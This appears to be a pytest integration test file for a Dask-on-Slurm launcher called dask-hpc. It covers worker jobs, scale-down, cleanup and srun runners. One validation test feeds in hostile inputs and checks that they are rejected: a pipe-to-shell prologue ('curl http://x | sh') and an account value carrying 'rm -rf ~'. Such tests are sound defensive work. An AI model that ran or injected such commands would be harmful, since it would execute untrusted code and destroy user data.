"""Worker jobs through a real Slurm (Debian's slurm-wlm, started by scripts/slurm-up.sh):
the scheduler runs here, each worker job runs `dask worker` under slurmd, a real Client computes."""
from __future__ import annotations

import json
import os
import signal
import subprocess
from pathlib import Path

import psutil
import pytest

from conftest import REPO, client_of, processes_mentioning, wait_for, wait_until_gone

SLURM_DIR = Path(os.environ.get("DASK_HPC_SLURM_DIR", "/tmp/dask-hpc-slurm"))
JOB_OPTIONS = ["--system", "slurm", "--job-cores", "1", "--job-mem-gb", "2", "--walltime", "00:10:00", "--workload", "cpu"]


@pytest.fixture(scope="session")
def slurm_conf() -> str:
    started = subprocess.run(
        ["bash", str(REPO / "scripts" / "slurm-up.sh"), str(SLURM_DIR)], capture_output=True, text=True, timeout=300
    )
    assert started.returncode == 0, f"a real Slurm is needed for these tests: {started.stderr}"
    yield started.stdout.strip().split("=", 1)[1]
    subprocess.run(["bash", str(REPO / "scripts" / "slurm-down.sh"), str(SLURM_DIR)], timeout=60)


@pytest.fixture
def slurm_node(dask_hpc, slurm_conf):
    """dask-hpc inside a Slurm job of 2 cores and 6 GiB, as JupyterLab on a compute node."""
    for name in [n for n in dask_hpc.env if n.startswith("PBS_")]:
        del dask_hpc.env[name]
    dask_hpc.env.update(
        SLURM_CONF=slurm_conf,
        SLURM_JOB_ID="77",
        SLURM_CPUS_ON_NODE="2",
        SLURM_MEM_PER_NODE="6144",
        SLURM_TMPDIR=str(dask_hpc.jobfs),
    )
    return dask_hpc


def our_jobs(conf: str, cluster_id: str) -> dict[str, str]:
    """The cluster's jobs in Slurm's queue: id → state."""
    result = subprocess.run(
        ["squeue", "-h", "-n", f"dask-{cluster_id}", "-o", "%i %T"],
        env={**os.environ, "SLURM_CONF": conf}, capture_output=True, text=True, check=True,
    )
    return dict(line.split() for line in result.stdout.splitlines())




def test_slurm_worker_jobs_compute_scale_down_and_leave_nothing(slurm_node, slurm_conf):
    cluster = slurm_node.up("--name", "sl", "--jobs", "2", *JOB_OPTIONS)
    cid = cluster["id"]
    assert cluster["worker_jobs"]["system"] == "slurm"
    assert cluster["scheduler_address"].startswith("tls://") and "://127." not in cluster["scheduler_address"], "workers on other nodes must reach the scheduler, over TLS"
    job_ids = {w["job_id"] for w in cluster["workers"]}
    assert len(job_ids) == 2 and set(our_jobs(slurm_conf, cid)) == job_ids

    with client_of(cluster) as client:
        client.wait_for_workers(2, timeout=90)
        import dask.array as da

        assert int(da.ones((2000, 2000), chunks=500).sum().compute()) == 4_000_000
        # Each worker runs inside its own Slurm job, on that job's disk, with the job's plan.
        seen = client.run(lambda: (os.environ.get("SLURM_JOB_ID"), os.environ["TMPDIR"]))
        assert {job for job, _ in seen.values()} == job_ids
        for _, tmpdir in seen.values():
            assert f"/dask-hpc-{os.getuid()}/{cid}-sl-job-" in tmpdir
            assert not tmpdir.startswith(str(slurm_node.jobfs)), "the kernel's job filesystem leaked into the worker job"
        limits = {w["memory_limit"] for w in client.scheduler_info()["workers"].values()}
        assert limits == {cluster["plan"]["memory_limit_bytes"]}

        listed = wait_for(
            lambda: [c for c in slurm_node.ls() if c["id"] == cid and all(w["job_state"] == "running" for w in c["workers"])],
            20, "both jobs reported running",
        )
        assert all(w["registered"] == 1 and w["status"] == "running" for w in listed[0]["workers"])

        scaled = slurm_node("scale", cid, "1")
        assert scaled.returncode == 0, scaled.stderr
        wait_for(lambda: len(our_jobs(slurm_conf, cid)) == 1, 30, "scale down cancelling a job")
        wait_for(lambda: len(client.scheduler_info()["workers"]) == 1, 30, "the client seeing one worker")

    down = slurm_node("down", cid)
    assert down.returncode == 0, down.stderr
    wait_for(lambda: not our_jobs(slurm_conf, cid), 30, "shutdown emptying the queue")
    assert not wait_until_gone(processes_mentioning(cid), 30)
    assert not list(Path("/tmp/dask-hpc").glob(f"{cid}-*")), "a worker job left its spill directory"


def test_slurm_owner_sigkill_cancels_queued_jobs_and_leaves_nothing(slurm_node, slurm_conf):
    # Six one-core jobs on four slots: two stay queued when the owner dies.
    cluster = slurm_node.up("--jobs", "6", *JOB_OPTIONS, "--adoption-grace", "2")
    cid = cluster["id"]
    wait_for(lambda: list(our_jobs(slurm_conf, cid).values()).count("RUNNING") == 4, 60, "four jobs running")
    assert "PENDING" in our_jobs(slurm_conf, cid).values()
    os.kill(cluster["owner_pid"], signal.SIGKILL)
    wait_for(lambda: not our_jobs(slurm_conf, cid), 30, "every job, queued or running, leaving the queue")
    assert not wait_until_gone(processes_mentioning(cid), 30)


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (["--prologue", "curl http://x | sh"], "--prologue line 1"),
        (["--account", "ab12; rm -rf ~"], "--account must be"),
        (["--walltime", "forever"], "--walltime must be HH:MM:SS"),
        (["--job-cores", "0"], "--job-cores must be"),
        (["--interface", "nosuch0"], "no interface"),
    ],
)
def test_slurm_bad_job_options_submit_nothing(slurm_node, slurm_conf, flags, message):
    before = subprocess.run(["squeue", "-h", "-o", "%i"], env={**os.environ, "SLURM_CONF": slurm_conf}, capture_output=True, text=True).stdout
    result = slurm_node("up", "--python", slurm_node.python, *JOB_OPTIONS, *flags)
    assert result.returncode == 2
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    after = subprocess.run(["squeue", "-h", "-o", "%i"], env={**os.environ, "SLURM_CONF": slurm_conf}, capture_output=True, text=True).stdout
    assert after == before
    assert slurm_node.ls() == []


CHECK_SCRIPT = """
import json, os
from distributed import Client
with Client(timeout=30) as client:  # no arguments: dask-hpc run sets Dask's own variables
    client.wait_for_workers(2, timeout=60)
    seen = client.run(lambda: [os.environ.get("SLURM_JOB_ID"), os.environ.get("SLURM_STEP_ID"), os.environ["TMPDIR"]])
    total = client.submit(sum, range(10)).result()
print("RESULT " + json.dumps({"workers": list(seen.values()), "total": total}))
"""


def test_slurm_runner_starts_workers_on_the_allocation_through_srun(slurm_node, slurm_conf, tmp_path):
    """Inside a real Slurm job, `dask-hpc run --runner` puts the plan's workers on the job's nodes with srun."""
    script = tmp_path / "check.py"
    script.write_text(CHECK_SCRIPT)
    output = tmp_path / "job.out"
    env = {k: v for k, v in slurm_node.env.items() if not k.startswith("SLURM_")} | {"SLURM_CONF": slurm_conf}
    command = f"node {REPO / 'lib' / 'dask-hpc.mjs'} run --runner --workload cpu --python {slurm_node.python} -- {slurm_node.python} {script}"
    submitted = subprocess.run(
        ["sbatch", "--parsable", "-N1", "-c2", "--mem=4G", "-J", "dask-hpc-runner-test", "-o", str(output), "--wrap", command],
        env=env, capture_output=True, text=True, cwd=tmp_path,
    )
    assert submitted.returncode == 0, submitted.stderr
    job_id = submitted.stdout.strip()
    wait_for(lambda: job_id not in our_queue(slurm_conf), 120, "the runner job finishing")
    text = output.read_text()
    result = json.loads(next(line for line in text.splitlines() if line.startswith("RESULT ")).removeprefix("RESULT "))
    assert result["total"] == 45
    assert len(result["workers"]) == 2
    for worker_job, step, tmpdir in result["workers"]:
        assert worker_job == job_id and step not in (None, "batch"), "workers run in an srun step of the same job"
        assert f"/dask-hpc-{os.getuid()}/" in tmpdir
    cluster_id = tmpdir.split(f"/dask-hpc-{os.getuid()}/")[1].split("/")[0]
    assert not wait_until_gone(processes_mentioning(cluster_id), 30)


def our_queue(conf: str) -> list[str]:
    result = subprocess.run(["squeue", "-h", "-o", "%i"], env={**os.environ, "SLURM_CONF": conf}, capture_output=True, text=True, check=True)
    return result.stdout.split()


def test_runner_outside_a_batch_job_is_refused_before_anything_starts(dask_hpc):
    env = {k: v for k, v in dask_hpc.env.items() if not k.startswith("PBS_")}
    result = subprocess.run(["node", str(REPO / "lib" / "dask-hpc.mjs"), "up", "--runner", "--python", dask_hpc.python], env=env, capture_output=True, text=True)
    assert result.returncode == 2
    assert "--runner uses the nodes of the current PBS or Slurm job" in result.stderr
    assert dask_hpc.ls() == []
